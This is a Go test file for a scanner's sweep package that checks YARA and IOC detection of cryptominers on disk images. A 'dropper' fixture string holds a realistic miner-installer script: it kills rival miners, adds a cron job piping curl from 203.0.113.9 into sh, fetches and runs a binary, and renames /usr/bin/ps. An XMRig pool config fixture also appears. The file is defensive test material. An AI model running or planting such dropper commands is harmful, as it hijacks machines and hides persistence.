package sweep

import (
	"context"
	"crypto/md5"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/hex"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/snapscan/snapscan/fsread"
	"github.com/snapscan/snapscan/fsread/dirfs"
	"github.com/snapscan/snapscan/report"
	"github.com/snapscan/snapscan/signatures"
	"github.com/snapscan/snapscan/signatures/yarascan"
)

var (
	rulesOnce sync.Once
	rules     *yarascan.Rules
	rulesErr  error
)

func embeddedRules(t testing.TB) *yarascan.Rules {
	t.Helper()
	rulesOnce.Do(func() { rules, _, rulesErr = yarascan.Compile(yarascan.Options{}) })
	if rulesErr != nil {
		t.Fatal(rulesErr)
	}
	return rules
}

func embeddedIOCs(t testing.TB) *signatures.IOCs {
	t.Helper()
	s, err := signatures.LoadIOCs()
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func repoRoot(t testing.TB) string {
	t.Helper()
	wd, err := os.Getwd()
	if err != nil {
		t.Fatal(err)
	}
	return filepath.Join(wd, "..", "..")
}

// buildFakeMiner compiles testdata/images/src/fakeminer.c: a harmless ELF
// that prints a help text carrying xmrig's markers.
func buildFakeMiner(t testing.TB, out string) {
	t.Helper()
	cc, err := exec.LookPath("gcc")
	if err != nil {
		t.Skip("gcc not installed: cannot build the fake miner ELF")
	}
	src := filepath.Join(repoRoot(t), "testdata", "images", "src", "fakeminer.c")
	if err := os.MkdirAll(filepath.Dir(out), 0o755); err != nil {
		t.Fatal(err)
	}
	if b, err := exec.Command(cc, "-O2", "-o", out, src).CombinedOutput(); err != nil {
		t.Fatalf("gcc: %v\n%s", err, b)
	}
	// It must really be harmless: it prints and exits 0.
	b, err := exec.Command(out).Output()
	if err != nil || !strings.Contains(string(b), "--donate-level") {
		t.Fatalf("fake miner: %v %q", err, b)
	}
}

func write(t testing.TB, p, s string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
		t.Fatal(err)
	}
}

const minerConfig = `{
    "autosave": true,
    "donate-level": 1,
    "cpu": { "enabled": true, "huge-pages": true },
    "pools": [
        {
            "algo": "rx/0",
            "url": "pool.supportxmr.com:443",
            "user": "4AsnapscanTestWa11etNotRea1gHpPsmvpia2vWrGi4zB8QXxGRb7dG1oETJCxrRBqt59ggV991x1ErEBxBKMDbykhECmD",
            "pass": "x",
            "keepalive": true,
            "tls": true
        }
    ]
}
`

const dropper = `#!/bin/sh
chattr -i /etc/crontab /var/spool/cron/root
pkill -9 -f kdevtmpfsi; pkill -f kinsing; killall xmrig
ps aux | grep minerd | grep -v grep | awk '{print $2}' | xargs kill -9
echo "*/5 * * * * curl -fsSL http://203.0.113.9/upat.sh | sh" >> /etc/crontab
curl -o /tmp/httpd2 http://203.0.113.9/httpd2; chmod +x /tmp/httpd2; /tmp/httpd2 &
mv /usr/bin/ps /usr/bin/ps.original
`

func run(t testing.TB, root string, o Options) *Result {
	t.Helper()
	fsys, err := dirfs.New(root)
	if err != nil {
		t.Fatal(err)
	}
	return runFS(t, fsys, o)
}

func runFS(t testing.TB, fsys fsread.FS, o Options) *Result {
	t.Helper()
	if o.Volume == "" {
		o.Volume = "test.img@1"
	}
	res, err := Run(context.Background(), fsys, o)
	if err != nil {
		t.Fatal(err)
	}
	return res
}

func byPath(res *Result) map[string]report.Finding {
	m := map[string]report.Finding{}
	for _, f := range res.Findings {
		m[f.Evidence.Path] = f
	}
	return m
}

func ruleNames(f report.Finding) []string {
	var out []string
	for _, m := range f.Matches {
		out = append(out, m.Rule)
	}
	return out
}

func fileHashes(t testing.TB, p string) (string, string) {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	m, s := md5.Sum(b), sha256.Sum256(b)
	return hex.EncodeToString(m[:]), hex.EncodeToString(s[:])
}

func TestSweepMinerFixtures(t *testing.T) {
	root := t.TempDir()
	buildFakeMiner(t, filepath.Join(root, "usr", "lib", "updater", "kworker-helper"))
	write(t, filepath.Join(root, "var", "lib", "cache", "c.json"), minerConfig)
	write(t, filepath.Join(root, "srv", "policy", "README.md"), "# Egress policy\nWe block pool.minexmr.com and other mining pools at the proxy.\n")
	write(t, filepath.Join(root, "opt", "x", "update.sh"), dropper)
	write(t, filepath.Join(root, "etc", "motd"), "Welcome.\n")

	res := run(t, root, Options{Rules: embeddedRules(t), IOCs: embeddedIOCs(t), Workers: 2})
	if len(res.Errors) != 0 {
		t.Errorf("errors: %+v", res.Errors)
	}
	if res.Stats.Files != 5 {
		t.Errorf("swept %d files, want 5", res.Stats.Files)
	}
	got := byPath(res)
	for _, tc := range []struct {
		path     string
		sev      report.Severity
		rules    []string // must all be among the matches
		family   string
		tech     string
		leadRule string
	}{
		{"/usr/lib/updater/kworker-helper", report.High, []string{"SNAP_XMRig_Binary", "SNAP_Miner_Binary_Generic", "SNAP_Monero_Wallet", "SNAP_Stratum_URL"}, "XMRig", "T1496.001", "yara.SNAP_XMRig_Binary"},
		{"/var/lib/cache/c.json", report.High, []string{"SNAP_Miner_Config_JSON", "SNAP_Monero_Wallet", "SNAP_Mining_Pool_Domain"}, "XMRig", "T1496.001", "yara.SNAP_Miner_Config_JSON"},
		{"/srv/policy/README.md", report.Info, []string{"SNAP_Mining_Pool_Domain"}, "", "T1496.001", "yara.SNAP_Mining_Pool_Domain"},
		{"/opt/x/update.sh", report.High, []string{"SNAP_Miner_Dropper_Killer", "SNAP_Cron_Installer", "SNAP_Chattr_Persistence", "SNAP_Cleanfda_Artifacts"}, "Cleanfda", "", ""},
	} {
		f, ok := got[tc.path]
		if !ok {
			t.Errorf("%s: no finding", tc.path)
			continue
		}
		delete(got, tc.path)
		if f.Severity != tc.sev {
			t.Errorf("%s: severity %v, want %v (%v)", tc.path, f.Severity, tc.sev, ruleNames(f))
		}
		for _, r := range tc.rules {
			if !slices.Contains(ruleNames(f), r) {
				t.Errorf("%s: %s did not match (got %v)", tc.path, r, ruleNames(f))
			}
		}
		if tc.family != "" && f.Family != tc.family {
			t.Errorf("%s: family %q, want %q", tc.path, f.Family, tc.family)
		}
		if tc.tech != "" && f.Technique != tc.tech {
			t.Errorf("%s: technique %q, want %q", tc.path, f.Technique, tc.tech)
		}
		if tc.leadRule != "" && f.Rule != tc.leadRule {
			t.Errorf("%s: rule %q, want %q", tc.path, f.Rule, tc.leadRule)
		}
		wm, ws := fileHashes(t, filepath.Join(root, tc.path))
		if f.Evidence.MD5 != wm || f.Evidence.SHA256 != ws {
			t.Errorf("%s: hashes %s %s, want %s %s", tc.path, f.Evidence.MD5, f.Evidence.SHA256, wm, ws)
		}
		st, _ := os.Stat(filepath.Join(root, tc.path))
		if f.Evidence.Volume != "test.img@1" || f.Evidence.Size != st.Size() || f.Evidence.Inode == 0 || f.Evidence.Mtime == nil {
			t.Errorf("%s: evidence %+v", tc.path, f.Evidence)
		}
		if f.Check != CheckName || f.ID == "" || f.Remediation == "" || f.Title == "" || f.Technique == "" || f.TechniqueName == "" {
			t.Errorf("%s: incomplete finding %+v", tc.path, f)
		}
		for _, m := range f.Matches {
			if strings.HasPrefix(m.Rule, "SNAP_") && (len(m.Strings) == 0 || m.Source != yarascan.EmbeddedSource) {
				t.Errorf("%s: match %+v has no strings or source", tc.path, m)
			}
		}
	}
	for p, f := range got {
		t.Errorf("unexpected finding %s: %v %v", p, f.Severity, ruleNames(f))
	}
}

// The fake miner's string offsets point at the bytes they quote.
func TestSweepStringOffsets(t *testing.T) {
	root := t.TempDir()
	bin := filepath.Join(root, "m")
	buildFakeMiner(t, bin)
	res := run(t, root, Options{Rules: embeddedRules(t), Workers: 1})
	if len(res.Findings) != 1 {
		t.Fatalf("findings %d", len(res.Findings))
	}
	data, _ := os.ReadFile(bin)
	n := 0
	for _, m := range res.Findings[0].Matches {
		for _, s := range m.Strings {
			want := printable(data[s.Offset:min(int(s.Offset)+len(s.Data), len(data))])
			if !strings.HasPrefix(want, strings.TrimSuffix(s.Data, "...")) {
				t.Errorf("%s %s @%d: %q, file has %q", m.Rule, s.Name, s.Offset, s.Data, want)
			}
			n++
		}
	}
	if n == 0 {
		t.Error("no string matches")
	}
}

// cleanFiles lists real files of this machine that a miner scanner must
// stay quiet on: common binaries (libc and ld.so name /etc/ld.so.preload),
// package documentation, and configuration.
func cleanFiles(t testing.TB) []string {
	var out []string
	for _, p := range []string{
		"/usr/bin/bash", "/usr/bin/ls", "/usr/bin/ssh", "/usr/bin/curl", "/usr/bin/wget", "/usr/bin/tar",
		"/usr/bin/openssl", "/usr/bin/perl", "/usr/bin/gpg", "/usr/bin/git", "/usr/bin/python3",
		"/usr/bin/yara", "/usr/bin/systemctl", "/usr/bin/crontab", "/usr/bin/chattr", "/usr/bin/pkill",
		"/usr/sbin/cron", "/usr/sbin/sshd", "/usr/sbin/iptables",
		"/etc/passwd", "/etc/crontab", "/etc/services", "/etc/ld.so.conf", "/etc/protocols", "/etc/bash.bashrc",
	} {
		if st, err := os.Stat(p); err == nil && st.Mode().IsRegular() {
			out = append(out, p)
		}
	}
	for _, pat := range []string{"/lib/x86_64-linux-gnu/libc.so.6", "/lib64/ld-linux-x86-64.so.2", "/lib/x86_64-linux-gnu/libyara.so.*",
		"/usr/share/doc/*/copyright", "/usr/share/doc/*/README*", "/usr/share/doc/*/NEWS*", "/usr/share/doc/*/changelog.Debian.gz",
		"/etc/cron.daily/*", "/etc/init.d/*", "/lib/systemd/system/*.service"} {
		ms, _ := filepath.Glob(pat)
		for _, p := range ms {
			if st, err := os.Stat(p); err == nil && st.Mode().IsRegular() {
				out = append(out, p)
			}
		}
	}
	return out
}

func copyFile(t testing.TB, src, dst string) int64 {
	t.Helper()
	in, err := os.Open(src)
	if err != nil {
		t.Fatal(err)
	}
	defer in.Close()
	if err := os.MkdirAll(filepath.Dir(dst), 0o755); err != nil {
		t.Fatal(err)
	}
	out, err := os.OpenFile(dst, os.O_CREATE|os.O_WRONLY|os.O_EXCL, 0o444)
	if err != nil {
		t.Fatal(err)
	}
	n, err := io.Copy(out, in)
	if err != nil {
		t.Fatal(err)
	}
	out.Close()
	return n
}

// A copy of real files from this Debian system gives nothing above info.
func TestSweepCleanSystemFiles(t *testing.T) {
	files := cleanFiles(t)
	if len(files) < 50 {
		t.Skipf("only %d system files found: not a Debian-like host", len(files))
	}
	root := t.TempDir()
	var total int64
	for _, p := range files {
		total += copyFile(t, p, filepath.Join(root, p))
	}
	res := run(t, root, Options{Rules: embeddedRules(t), IOCs: embeddedIOCs(t), Workers: 2, MaxFileSize: 256 << 20})
	if res.Stats.Files != int64(len(files)) || res.Stats.Bytes != total {
		t.Errorf("swept %d files %d bytes, want %d files %d bytes (skipped %v, errors %v)", res.Stats.Files, res.Stats.Bytes, len(files), total, res.Skipped, res.Errors)
	}
	for _, f := range res.Findings {
		if f.Severity > report.Info {
			t.Errorf("false positive on a clean file: %s %v %v", f.Evidence.Path, f.Severity, ruleNames(f))
		} else {
			t.Logf("info: %s %v", f.Evidence.Path, ruleNames(f))
		}
	}
	t.Logf("%d clean files, %d bytes, %v", res.Stats.Files, res.Stats.Bytes, res.Stats.Elapsed)
}

// --rules style user rules see LOKI's externals per file.
func TestSweepUserRuleExternals(t *testing.T) {
	dir := t.TempDir()
	rulesFile := filepath.Join(dir, "rules", "site.yar")
	write(t, rulesFile, `rule site_runner {
  meta:
    description = "run.sh in /opt/app owned by uid 0"
    severity = "critical"
    attack = "T1059.004"
  strings:
    $s = "echo start"
  condition:
    $s and filepath == "/opt/app" and filename == "run.sh" and extension == ".sh" and owner == "root" and filetype == "SCRIPT"
}`)
	r, diags, err := yarascan.Compile(yarascan.Options{Paths: []string{filepath.Dir(rulesFile)}, NoEmbedded: true})
	if err != nil {
		t.Fatal(err, diags)
	}
	root := filepath.Join(dir, "img")
	body := "#!/bin/sh\necho start\n"
	for _, p := range []string{"opt/app/run.sh", "opt/other/run.sh", "opt/app/run.bash", "opt/app/sub/run.sh"} {
		write(t, filepath.Join(root, p), body)
	}
	owner := func(m *fsread.Meta) string {
		if m.UID == 0 {
			return "root"
		}
		return strconv.FormatUint(uint64(m.UID), 10)
	}
	if os.Getuid() != 0 {
		t.Skip("needs root: the rule tests owner == \"root\" and the fixture files are owned by the test user")
	}
	res := run(t, root, Options{Rules: r, Workers: 2, Owner: owner})
	var paths []string
	for _, f := range res.Findings {
		paths = append(paths, f.Evidence.Path)
		if f.Severity != report.Critical || f.Technique != "T1059.004" || f.Matches[0].Source != rulesFile {
			t.Errorf("finding %+v", f)
		}
	}
	if !slices.Equal(paths, []string{"/opt/app/run.sh"}) {
		t.Errorf("user rule fired on %v, want only /opt/app/run.sh", paths)
	}
}

// countingFS records every Open and every byte read, per path.
type countingFS struct {
	fsread.FS
	mu    sync.Mutex
	opens map[string]int
	bytes map[string]int64
}

func (c *countingFS) Open(name string) (fs.File, error) {
	c.mu.Lock()
	c.opens[name]++
	c.mu.Unlock()
	f, err := c.FS.Open(name)
	if err != nil {
		return nil, err
	}
	return &countingFile{File: f, c: c, name: name}, nil
}

type countingFile struct {
	fs.File
	c    *countingFS
	name string
}

func (f *countingFile) Read(p []byte) (int, error) {
	n, err := f.File.Read(p)
	f.c.mu.Lock()
	f.c.bytes[f.name] += int64(n)
	f.c.mu.Unlock()
	return n, err
}

func TestSweepReadsOnceSkipsSpecials(t *testing.T) {
	root := t.TempDir()
	want := map[string]int64{}
	for i := 0; i < 40; i++ {
		p := filepath.Join("d"+string(rune('a'+i%5)), "f"+string(rune('a'+i/5))+".txt")
		body := strings.Repeat("content line with no marker\n", i*20+1)
		write(t, filepath.Join(root, p), body)
		want[filepath.ToSlash(p)] = int64(len(body))
	}
	write(t, filepath.Join(root, "big", "huge.bin"), strings.Repeat("x", 70000))
	if err := syscall.Mkfifo(filepath.Join(root, "fifo"), 0o644); err != nil {
		t.Fatal(err)
	}
	haveDev := syscall.Mknod(filepath.Join(root, "null"), syscall.S_IFCHR|0o666, 1<<8|3) == nil
	if !haveDev {
		t.Log("cannot mknod (needs root): device-node part not exercised")
	}
	if err := os.Symlink("da/fa.txt", filepath.Join(root, "link")); err != nil {
		t.Fatal(err)
	}

	inner, err := dirfs.New(root)
	if err != nil {
		t.Fatal(err)
	}
	c := &countingFS{FS: inner, opens: map[string]int{}, bytes: map[string]int64{}}
	var progress []Progress
	res := runFS(t, c, Options{Rules: embeddedRules(t), IOCs: embeddedIOCs(t), Workers: 4, MaxFileSize: 65536,
		Progress: func(p Progress) { progress = append(progress, p) }})

	for name, n := range c.opens {
		if _, ok := want[name]; !ok {
			t.Errorf("opened %s (%d times): not a regular file under the cap", name, n)
		} else if n != 1 {
			t.Errorf("opened %s %d times", name, n)
		}
	}
	for name, size := range want {
		if c.opens[name] != 1 || c.bytes[name] != size {
			t.Errorf("%s: %d opens, %d bytes read, want 1 open and %d bytes", name, c.opens[name], c.bytes[name], size)
		}
	}
	reasons := map[string]string{}
	for _, s := range res.Skipped {
		reasons[s.Path] = s.Reason
		if s.Volume != "test.img@1" {
			t.Errorf("skipped without volume: %+v", s)
		}
	}
	wantSkipped := map[string]string{"/big/huge.bin": "size cap", "/fifo": "named pipe"}
	if haveDev {
		wantSkipped["/null"] = "character device"
	}
	for p, r := range wantSkipped {
		if !strings.Contains(reasons[p], r) {
			t.Errorf("%s: skipped reason %q, want %q", p, reasons[p], r)
		}
	}
	if len(reasons) != len(wantSkipped) {
		t.Errorf("skipped %v, want %v", reasons, wantSkipped)
	}
	if res.Stats.Files != int64(len(want)) || res.Stats.Skipped != int64(len(wantSkipped)) || len(res.Findings) != 0 || len(res.Errors) != 0 {
		t.Errorf("stats %+v findings %d errors %v", res.Stats, len(res.Findings), res.Errors)
	}
	var total int64
	for _, n := range want {
		total += n
	}
	if res.Stats.Bytes != total {
		t.Errorf("bytes %d, want %d", res.Stats.Bytes, total)
	}
	last := progress[len(progress)-1]
	if !last.WalkDone || last.FilesDone != last.FilesSeen || last.FilesSeen != int64(len(want))+1 || last.BytesDone != total || last.BytesSeen != total {
		t.Errorf("last progress %+v", last)
	}
	for i := 1; i < len(progress); i++ {
		if progress[i].FilesDone < progress[i-1].FilesDone || progress[i].FilesDone > progress[i].FilesSeen || progress[i].BytesDone > progress[i].BytesSeen {
			t.Fatalf("progress not monotonic: %+v then %+v", progress[i-1], progress[i])
		}
	}
}

func TestSweepHashAndFilenameIOCs(t *testing.T) {
	root := t.TempDir()
	files := map[string]string{
		"a/by-md5":                     "alpha content",
		"b/by-sha1":                    "bravo content",
		"c/by-sha256":                  "charlie content",
		"d/plain":                      "delta content",
		"etc/upat.sh":                  "echo hi\n",
		"tmp/.cache/x":                 "x",
		"Windows/System32/svchost.exe": "MZ not really",
	}
	for p, s := range files {
		write(t, filepath.Join(root, p), s)
	}
	md := md5.Sum([]byte(files["a/by-md5"]))
	s1 := sha1.Sum([]byte(files["b/by-sha1"]))
	s2 := sha256.Sum256([]byte(files["c/by-sha256"]))
	list := filepath.Join(t.TempDir(), "case-hashes.txt")
	write(t, list, hex.EncodeToString(md[:])+";md5 ioc\n"+strings.ToUpper(hex.EncodeToString(s1[:]))+";sha1 ioc;100\n"+hex.EncodeToString(s2[:])+";sha256 ioc;50\n")
	iocs, err := signatures.LoadIOCs(list)
	if err != nil {
		t.Fatal(err)
	}
	res := run(t, root, Options{IOCs: iocs, Workers: 3})
	got := byPath(res)
	for _, tc := range []struct {
		path string
		rule string
		tag  string
		sev  report.Severity
	}{
		{"/a/by-md5", "ioc.hash", "md5", report.High},
		{"/b/by-sha1", "ioc.hash", "sha1", report.Critical},
		{"/c/by-sha256", "ioc.hash", "sha256", report.Low},
		{"/etc/upat.sh", "ioc.filename", "", report.High},
		{"/tmp/.cache/x", "ioc.filename", "", report.Low},
	} {
		f, ok := got[tc.path]
		delete(got, tc.path)
		if !ok || f.Rule != tc.rule || f.Severity != tc.sev || len(f.Matches) != 1 ||
			(tc.tag != "" && !slices.Equal(f.Matches[0].Tags, []string{tc.tag})) || !strings.HasPrefix(f.Matches[0].Source, list) && tc.tag != "" {
			t.Errorf("%s: %v %+v", tc.path, ok, f)
		}
	}
	for p := range got {
		t.Errorf("unexpected finding on %s (svchost.exe in System32 is on the FP list)", p)
	}
}

func TestSweepCancel(t *testing.T) {
	root := t.TempDir()
	for i := 0; i < 200; i++ {
		write(t, filepath.Join(root, "d", "f"+strings.Repeat("x", i%7)+string(rune('a'+i%26))+string(rune('a'+i/26))), "x")
	}
	fsys, _ := dirfs.New(root)
	ctx, cancel := context.WithCancel(context.Background())
	var n atomic.Int64
	res, err := Run(ctx, fsys, Options{Workers: 2, Progress: func(p Progress) {
		if n.Add(1) == 5 {
			cancel()
		}
	}})
	if err == nil || res == nil || res.Stats.Files >= 200 {
		t.Errorf("cancelled sweep: err %v, files %d", err, res.Stats.Files)
	}
}

func TestDefaults(t *testing.T) {
	o := withDefaults(Options{Workers: 1000, Timeout: time.Millisecond})
	if o.Workers != MaxWorkers || o.Timeout != time.Second || o.MaxFileSize != DefaultMaxFileSize || o.Root != "." {
		t.Errorf("%+v", o)
	}
	if withDefaults(Options{}).Workers != runtime.GOMAXPROCS(0) {
		t.Error("default workers")
	}
}

func TestPrintable(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"abc", "abc"},
		{"a\x00b\\", `a\x00b\\`},
		{strings.Repeat("y", 200), strings.Repeat("y", maxStringData) + "..."},
		{strings.Repeat("y", maxStringData), strings.Repeat("y", maxStringData)},
	} {
		if got := printable([]byte(tc.in)); got != tc.want {
			t.Errorf("printable(%q) = %q", tc.in, got)
		}
	}
}

func TestVars(t *testing.T) {
	for _, tc := range []struct {
		windows bool
		path    string
		want    yarascan.Vars
	}{
		{false, "usr/bin/X.SH", yarascan.Vars{Filename: "X.SH", Filepath: "/usr/bin", Extension: ".sh", Filetype: "SCRIPT", MD5: "m", Owner: "0"}},
		{false, "top", yarascan.Vars{Filename: "top", Filepath: "/", Extension: "", Filetype: "SCRIPT", MD5: "m", Owner: "0"}},
		{true, "Windows/Temp/a.EXE", yarascan.Vars{Filename: "a.EXE", Filepath: `\Windows\Temp`, Extension: ".exe", Filetype: "SCRIPT", MD5: "m", Owner: "0"}},
	} {
		style := "unix"
		if tc.windows {
			style = "windows"
		}
		w := &worker{opts: &Options{PathStyle: style}}
		got := w.vars(job{path: tc.path, meta: &fsread.Meta{HasOwner: true}}, "/"+tc.path, []byte("#!"), "m")
		if got != tc.want {
			t.Errorf("%s: %+v, want %+v", tc.path, got, tc.want)
		}
	}
}

func TestDetectPathStyle(t *testing.T) {
	root := t.TempDir()
	unix, _ := dirfs.New(root)
	o := Options{Root: "."}
	detectPathStyle(unix, &o)
	if o.PathStyle != "unix" {
		t.Errorf("empty tree: %s", o.PathStyle)
	}
	if err := os.MkdirAll(filepath.Join(root, "Windows", "System32"), 0o755); err != nil {
		t.Fatal(err)
	}
	win, _ := dirfs.New(root)
	o = Options{Root: "."}
	detectPathStyle(win, &o)
	if o.PathStyle != "windows" {
		t.Errorf("tree with Windows/System32: %s", o.PathStyle)
	}
	o = Options{Root: ".", PathStyle: "unix"}
	detectPathStyle(win, &o)
	if o.PathStyle != "unix" {
		t.Error("explicit style overridden")
	}
}

// A rule that runs past the per-file timeout costs that file a ScanError,
// not the sweep; the other files are still scanned and buffers stay within
// the size cap.
func TestSweepPerFileTimeout(t *testing.T) {
	dir := t.TempDir()
	rulesFile := filepath.Join(dir, "slow.yar")
	write(t, rulesFile, `rule slow_loop { condition: for all i in (0..filesize-1) : (uint8(i) != 0xff and uint16(i) != 0xffff) }
rule marker { strings: $m = "MARKER" condition: $m }`)
	r, _, err := yarascan.Compile(yarascan.Options{Paths: []string{rulesFile}, NoEmbedded: true})
	if err != nil {
		t.Fatal(err)
	}
	root := filepath.Join(dir, "img")
	write(t, filepath.Join(root, "small"), "MARKER\n")
	big := filepath.Join(root, "big.sparse")
	f, err := os.Create(big)
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Truncate(200 << 20); err != nil {
		t.Fatal(err)
	}
	f.Close()
	start := time.Now()
	res := run(t, root, Options{Rules: r, Workers: 2, MaxFileSize: 256 << 20, Timeout: time.Second})
	el := time.Since(start)
	var timedOut bool
	for _, e := range res.Errors {
		if e.Path == "/big.sparse" && e.Stage == CheckName && strings.Contains(e.Error, "timed out") {
			timedOut = true
		}
	}
	if !timedOut {
		if el < 2*time.Second {
			t.Skipf("the slow rule finished in %v on this machine; timeout not exercised", el)
		}
		t.Errorf("no timeout error for /big.sparse: %+v", res.Errors)
	}
	got := byPath(res)
	if f, ok := got["/small"]; !ok || !slices.Contains(ruleNames(f), "marker") {
		t.Errorf("small file not scanned: %+v", res.Findings)
	}
	if res.Stats.Files != 2 || res.Stats.Bytes != 200<<20+7 {
		t.Errorf("stats %+v", res.Stats)
	}
	if el > 15*time.Second {
		t.Errorf("sweep took %v with a 1 s per-file timeout", el)
	}
}

// On a volume mounted at /usr, filename IOCs see the OS path; evidence
// names the file as the checks do: the OS path, and the path on the volume.
func TestSweepMountPoint(t *testing.T) {
	root := t.TempDir()
	write(t, filepath.Join(root, "bin", "ps.original"), "ELF-ish")
	res := run(t, root, Options{IOCs: embeddedIOCs(t), MountPoint: "/usr/"})
	if len(res.Findings) != 1 || res.Findings[0].Rule != "ioc.filename" {
		t.Fatalf("findings %+v", res.Findings)
	}
	if ev := res.Findings[0].Evidence; ev.Path != "/usr/bin/ps.original" || ev.VolumePath != "/bin/ps.original" || ev.Where() != ev.Volume+":/bin/ps.original" {
		t.Errorf("evidence names the file %s (volume path %s), want /usr/bin/ps.original on the volume at /bin/ps.original", ev.Path, ev.VolumePath)
	}
	res = run(t, root, Options{IOCs: embeddedIOCs(t), MountPoint: "/srv"})
	if len(res.Findings) != 0 {
		t.Errorf("/srv/bin/ps.original matched: %+v", res.Findings)
	}
}

// failingFS returns an I/O error after the first 16 bytes of one file, as a
// corrupt extent in an image would.
type failingFS struct {
	fsread.FS
	bad string
}

func (f *failingFS) Open(name string) (fs.File, error) {
	file, err := f.FS.Open(name)
	if err != nil || name != f.bad {
		return file, err
	}
	return &failingFile{File: file}, nil
}

type failingFile struct {
	fs.File
	n int
}

func (f *failingFile) Read(p []byte) (int, error) {
	if f.n >= 16 {
		return 0, syscall.EIO
	}
	p = p[:min(len(p), 16-f.n)]
	n, err := f.File.Read(p)
	f.n += n
	return n, err
}

func TestSweepReadErrorKeepsPartialScanWithoutHashes(t *testing.T) {
	dir := t.TempDir()
	rulesFile := filepath.Join(dir, "m.yar")
	write(t, rulesFile, `rule marker { strings: $m = "MARKER" condition: $m }`)
	r, _, err := yarascan.Compile(yarascan.Options{Paths: []string{rulesFile}, NoEmbedded: true})
	if err != nil {
		t.Fatal(err)
	}
	root := filepath.Join(dir, "img")
	write(t, filepath.Join(root, "bad"), "MARKER at start, then a long tail the image cannot deliver")
	write(t, filepath.Join(root, "good"), "MARKER")
	inner, _ := dirfs.New(root)
	res := runFS(t, &failingFS{FS: inner, bad: "bad"}, Options{Rules: r, Workers: 2})
	got := byPath(res)
	if f, ok := got["/bad"]; !ok || f.Evidence.MD5 != "" || f.Evidence.SHA256 != "" {
		t.Errorf("/bad: %v %+v", ok, f.Evidence)
	}
	if f, ok := got["/good"]; !ok || f.Evidence.MD5 == "" {
		t.Errorf("/good: %v %+v", ok, f.Evidence)
	}
	if len(res.Errors) != 1 || res.Errors[0].Path != "/bad" || res.Errors[0].Volume != "test.img@1" || !strings.Contains(res.Errors[0].Error, "input/output error") {
		t.Errorf("errors %+v", res.Errors)
	}
}
